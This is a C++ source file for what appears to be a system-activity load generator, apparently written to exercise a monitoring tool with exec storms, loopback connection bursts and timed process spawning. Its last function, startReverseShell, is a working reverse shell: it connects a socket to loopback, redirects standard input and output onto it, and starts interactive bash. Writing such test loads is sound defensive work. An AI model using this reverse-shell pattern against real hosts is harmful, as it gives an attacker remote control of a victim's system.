#include "Loads.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <spawn.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <functional>
#include <thread>

namespace storm {

namespace {

using Clock = std::chrono::steady_clock;

// A busy listener's accepts are told together (5 ms): the last of a burst wait for the next one.
constexpr std::chrono::milliseconds kAfterBurst(20);

double seconds(const timeval& time) {
    return static_cast<double>(time.tv_sec) + static_cast<double>(time.tv_usec) / 1e6;
}

/// Runs `load` in a process of its own, so that its children are counted with it and nothing else.
Cost measured(const std::function<void()>& load) {
    const auto start = Clock::now();
    const pid_t pid = fork();
    if (pid == 0) {
        load();
        _exit(0);
    }
    rusage usage{};
    int status = 0;
    if (wait4(pid, &status, 0, &usage) != pid || !WIFEXITED(status) || WEXITSTATUS(status) != 0) {
        std::fprintf(stderr, "storm: a load failed, status %d\n", status);
        std::exit(1);
    }
    const std::chrono::duration<double> wall = Clock::now() - start;
    return {seconds(usage.ru_utime) + seconds(usage.ru_stime), wall.count()};
}

void runTrue() {
    char name[] = "/bin/true";
    char* argv[] = {name, nullptr};
    char* environment[] = {nullptr};
    pid_t pid = 0;
    if (posix_spawn(&pid, name, nullptr, nullptr, argv, environment) != 0) {
        _exit(1);
    }
    waitpid(pid, nullptr, 0);
}

sockaddr_in address(int round, int port) {
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(static_cast<std::uint16_t>(port));
    to.sin_addr.s_addr = htonl(0x7F000001U + (static_cast<std::uint32_t>(round) << 8U));
    return to;
}

void mustNotFail(int result, const char* what) {
    if (result < 0) {
        std::perror(what);
        _exit(1);
    }
}

int listenAnywhere(sockaddr_in& at) {
    const int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    socklen_t length = sizeof at;
    mustNotFail(bind(listener, reinterpret_cast<sockaddr*>(&at), sizeof at), "bind");
    mustNotFail(listen(listener, 16), "listen");
    mustNotFail(getsockname(listener, reinterpret_cast<sockaddr*>(&at), &length), "getsockname");
    return listener;
}

void connectOnce(int listener, const sockaddr_in& at) {
    const int client = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    mustNotFail(connect(client, reinterpret_cast<const sockaddr*>(&at), sizeof at), "connect");
    const int server = accept4(listener, nullptr, nullptr, SOCK_CLOEXEC);
    mustNotFail(server, "accept");
    close(client);
    close(server);
}

}  // namespace

Cost execStorm(int count) {
    return measured([count] {
        for (int i = 0; i < count; ++i) {
            runTrue();
        }
    });
}

Cost connectLoop(int count, int round) {
    return measured([count, round] {
        sockaddr_in at = address(round, 0);
        const int listener = listenAnywhere(at);
        for (int i = 0; i < count; ++i) {
            if (i + 1 == count)
                std::this_thread::sleep_for(kAfterBurst);
            connectOnce(listener, at);
        }
    });
}

long pacedExecs(int perSecond, const std::atomic<bool>& stop) {
    const auto period = std::chrono::nanoseconds(1'000'000'000 / perSecond);
    auto next = Clock::now();
    long count = 0;
    for (; !stop; ++count) {
        runTrue();
        next += period;
        std::this_thread::sleep_until(next);
    }
    return count;
}

pid_t startReverseShell(int port) {
    const pid_t pid = fork();
    if (pid != 0) {
        return pid;
    }
    const int peer = socket(AF_INET, SOCK_STREAM, 0);
    const sockaddr_in to = address(0, port);
    mustNotFail(connect(peer, reinterpret_cast<const sockaddr*>(&to), sizeof to), "connect");
    for (const int standard : {0, 1, 2}) {
        dup2(peer, standard);
    }
    execl("/bin/bash", "bash", "--norc", "-i", nullptr);
    _exit(127);
}

}  // namespace storm
